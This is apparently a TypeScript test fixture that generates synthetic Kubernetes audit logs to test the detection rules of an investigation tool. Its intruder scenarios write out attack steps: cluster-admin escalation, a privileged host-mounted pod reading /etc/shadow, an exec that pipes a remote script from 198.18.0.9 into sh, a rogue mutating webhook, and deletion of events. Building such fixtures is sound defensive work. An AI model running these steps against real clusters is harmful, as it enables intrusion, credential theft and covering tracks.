import { createHash } from 'node:crypto';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Session } from '../../../core/host/api.ts';
import { caseOf, SHIPPED, temporaryFolder } from '../../host/case.ts';

/** A small made-up cluster and what people, programs and intruders do in it. Times are hours after the start of its log. */

const START = Date.parse('2026-03-02T00:00:00Z');

export interface Deed {
  readonly hour: number;
  readonly user: string;
  readonly from: string;
  readonly verb: string;
  readonly resource: string;
  readonly namespace?: string;
  readonly name?: string;
  readonly subresource?: string;
  readonly code?: number;
  readonly agent?: string;
  readonly query?: string;
  readonly body?: unknown;
  readonly response?: unknown;
  readonly extra?: Readonly<Record<string, readonly string[]>>;
  readonly annotations?: Readonly<Record<string, string>>;
}

const GROUPS: Readonly<Record<string, string>> = {
  deployments: 'apps',
  daemonsets: 'apps',
  cronjobs: 'batch',
  clusterroles: 'rbac.authorization.k8s.io',
  clusterrolebindings: 'rbac.authorization.k8s.io',
  mutatingwebhookconfigurations: 'admissionregistration.k8s.io',
  certificatesigningrequests: 'certificates.k8s.io',
};

function lineOf(deed: Deed): string {
  const { hour, user, verb, resource, namespace, name, subresource } = deed;
  const time = `${new Date(START + hour * 3600_000).toISOString().slice(0, 23)}000Z`;
  const apiGroup = GROUPS[resource];
  const path = [namespace && `namespaces/${namespace}`, resource, name, subresource].filter(Boolean).join('/');
  const code = deed.code ?? (verb === 'create' ? 201 : 200);
  const id = createHash('sha256').update(JSON.stringify(deed)).digest('hex');
  return JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: `${id.slice(0, 8)}-${id.slice(8, 12)}-4${id.slice(13, 16)}-8${id.slice(17, 20)}-${id.slice(20, 32)}`,
    stage: 'ResponseComplete',
    requestURI: `/${apiGroup ? `apis/${apiGroup}` : 'api'}/v1/${path}${deed.query ?? ''}`,
    verb,
    user:
      user === '' ? {} : { username: user, groups: ['system:authenticated'], ...(deed.extra && { extra: deed.extra }) },
    sourceIPs: [deed.from],
    userAgent: deed.agent ?? 'kubectl/v1.34.2 (linux/amd64) kubernetes/8b23c1d',
    objectRef: {
      resource,
      ...(namespace && { namespace }),
      ...(name && { name }),
      ...(apiGroup && { apiGroup }),
      apiVersion: 'v1',
      ...(subresource && { subresource }),
    },
    responseStatus: { metadata: {}, code },
    ...(deed.body !== undefined && { requestObject: deed.body }),
    ...(deed.response !== undefined && { responseObject: deed.response }),
    requestReceivedTimestamp: time,
    stageTimestamp: time,
    annotations: {
      'authorization.k8s.io/decision': code === 403 ? 'forbid' : 'allow',
      'authorization.k8s.io/reason': '',
      ...deed.annotations,
    },
  });
}

const every = (step: number, from: number, to: number, deed: (hour: number) => Deed): Deed[] =>
  Array.from({ length: Math.floor((to - from) / step) }, (_, index) => deed(from + index * step));

/** Four ordinary days. */
export function ordinaryDays(): Deed[] {
  const people = [
    ['mia@harbour.example', '192.168.10.11'],
    ['jon@harbour.example', '192.168.10.12'],
    ['eli@harbour.example', '192.168.10.31'],
  ] as const;
  const pods = [
    ['system:serviceaccount:billing:api', '10.8.1.14'],
    ['system:serviceaccount:ingress:router', '10.8.2.9'],
    ['system:serviceaccount:kube-system:kube-dns', '10.8.2.3'],
  ] as const;
  const agent = 'okhttp/4.12';
  return [
    ...people.flatMap(([user, from], index) =>
      every(0.7, 0.2 + index / 10, 96, (hour) => ({
        hour,
        user,
        from,
        verb: 'list',
        resource: 'pods',
        namespace: 'billing',
      })),
    ),
    ...pods.flatMap(([user, from], index) =>
      every(0.5, 0.1 + index / 10, 96, (hour) => ({
        hour,
        user,
        from,
        verb: 'list',
        resource: 'endpoints',
        namespace: 'billing',
        agent,
      })),
    ),
    ...every(0.9, 0.15, 96, (hour) => ({
      hour,
      user: PIPELINE,
      from: '192.168.40.5',
      verb: 'patch',
      resource: 'deployments',
      namespace: 'billing',
      name: 'api',
      agent: 'helm/3.16',
      body: { spec: { replicas: 3 } },
    })),
  ];
}

export const PIPELINE = 'system:serviceaccount:build:pipeline';

const bindingOf = (name: string, subject: Readonly<Record<string, string>>, role = 'cluster-admin') => ({
  kind: 'ClusterRoleBinding',
  metadata: { name },
  roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: role },
  subjects: [subject],
});

export const nodePod = (name: string) => ({
  kind: 'Pod',
  metadata: { name },
  spec: {
    hostPID: true,
    volumes: [{ name: 'root', hostPath: { path: '/' } }],
    containers: [
      {
        name: 'main',
        image: 'docker.io/library/alpine:3.20',
        securityContext: { privileged: true },
        volumeMounts: [{ name: 'root', mountPath: '/host' }],
      },
    ],
  },
});

/** A certificate request for a user name, as far as anybody reads it: its subject in DER, armoured and encoded. */
export function certificateRequest(user: string): string {
  const name = Buffer.concat([Buffer.from([0x06, 0x03, 0x55, 0x04, 0x03, 0x0c, user.length]), Buffer.from(user)]);
  const armoured = `-----BEGIN CERTIFICATE REQUEST-----\n${name.toString('base64')}\n-----END CERTIFICATE REQUEST-----\n`;
  return Buffer.from(armoured).toString('base64');
}

/** A stolen build token makes itself an account, issues a token for it, and goes on from another address with that token. */
export function hoppingIntruder(): Deed[] {
  const one = { user: PIPELINE, from: '45.83.20.7' };
  const two = {
    user: 'system:serviceaccount:kube-system:log-shipper',
    from: '91.200.12.66',
    extra: { 'authentication.kubernetes.io/credential-id': ['JTI=77aa0000-1111-2222-3333-444455556666'] },
  };
  return [
    { ...one, hour: 60, verb: 'list', resource: 'secrets' },
    { ...one, hour: 60.1, verb: 'list', resource: 'secrets', namespace: 'billing' },
    { ...one, hour: 60.5, verb: 'create', resource: 'serviceaccounts', namespace: 'kube-system', name: 'log-shipper' },
    {
      ...one,
      hour: 60.6,
      verb: 'create',
      resource: 'clusterrolebindings',
      name: 'log-shipper',
      body: bindingOf('log-shipper', { kind: 'ServiceAccount', namespace: 'kube-system', name: 'log-shipper' }),
    },
    {
      ...one,
      hour: 60.7,
      verb: 'create',
      resource: 'serviceaccounts',
      namespace: 'kube-system',
      name: 'log-shipper',
      subresource: 'token',
      annotations: { 'authentication.kubernetes.io/issued-credential-id': 'JTI=77aa0000-1111-2222-3333-444455556666' },
    },
    { ...two, hour: 63, verb: 'create', resource: 'pods', namespace: 'default', name: 'fixer', body: nodePod('fixer') },
    {
      ...two,
      hour: 63.2,
      verb: 'get',
      resource: 'pods',
      namespace: 'default',
      name: 'fixer',
      subresource: 'exec',
      query: '?command=chroot&command=%2Fhost&command=cat&command=%2Fetc%2Fshadow&container=main&stdout=true',
      code: 101,
    },
    { ...two, hour: 63.9, verb: 'deletecollection', resource: 'events', namespace: 'default' },
    { ...two, hour: 64, verb: 'delete', resource: 'pods', namespace: 'default', name: 'fixer' },
  ];
}

/** Somebody else has an engineer's certificate and works through it at the same time, from a network of IPv6. */
export function otherIntruder(): Deed[] {
  const jon = { user: 'jon@harbour.example', from: '2001:db8:77::5' };
  return [
    { ...jon, hour: 60.2, verb: 'list', resource: 'secrets' },
    {
      ...jon,
      hour: 60.4,
      verb: 'get',
      resource: 'pods',
      namespace: 'billing',
      name: 'api-7d9f8c6b5d-x2k4m',
      subresource: 'exec',
      query:
        '?command=sh&command=-c&command=curl%20http%3A%2F%2F198.18.0.9%2Fi.sh%20%7C%20sh&container=api&stdout=true',
      code: 101,
    },
    {
      ...jon,
      hour: 60.8,
      verb: 'create',
      resource: 'mutatingwebhookconfigurations',
      name: 'sidecars',
      body: {
        kind: 'MutatingWebhookConfiguration',
        metadata: { name: 'sidecars' },
        webhooks: [
          {
            name: 'inject.sidecars.example',
            clientConfig: { url: 'https://hooks.elsewhere.example/mutate' },
            rules: [{ operations: ['CREATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['pods'] }],
          },
        ],
      },
    },
    { ...jon, hour: 62, verb: 'delete', resource: 'deployments', namespace: 'billing', name: 'ledger' },
  ];
}

/** Ten teams whose deployers start privileged workloads all day: hundreds of alerts and no intruder. */
export function noisyDeployers(): Deed[] {
  return Array.from({ length: 10 }, (_, team) => team).flatMap((team) =>
    every(7, 1 + team / 7, 95, (hour) => ({
      hour,
      user: `system:serviceaccount:team-${team}:deployer`,
      from: `192.168.4${team % 3}.${20 + team}`,
      verb: 'create',
      resource: 'pods',
      namespace: `team-${team}`,
      name: `runner-${team}-${Math.round(hour)}`,
      agent: 'argo/3.5',
      body: nodePod(`runner-${team}-${Math.round(hour)}`),
    })),
  );
}

/** These deeds as an API server writes them, in the order of time. */
export const linesOf = (deeds: readonly Deed[]): string[] => deeds.toSorted((a, b) => a.hour - b.hour).map(lineOf);

export function logOfLines(lines: readonly string[], name: string): string {
  const path = join(temporaryFolder(), name);
  writeFileSync(path, `${lines.join('\n')}\n`);
  return path;
}

/** A case with these deeds, in one file or spread over more; with the shipped rules run over it. */
export async function investigate(deeds: readonly Deed[], files = 1, isReversed = false): Promise<Session> {
  const folder = temporaryFolder();
  const sorted = [...deeds].sort((a, b) => a.hour - b.hour);
  const parts = Array.from({ length: files }, (_, file) => sorted.filter((_deed, index) => index % files === file));
  const paths = parts.map((part, index) => {
    const path = join(folder, `audit-${index}.log`);
    writeFileSync(path, `${part.map(lineOf).join('\n')}\n`);
    return path;
  });
  return caseOf(isReversed ? paths.reverse() : paths, { rules: SHIPPED });
}
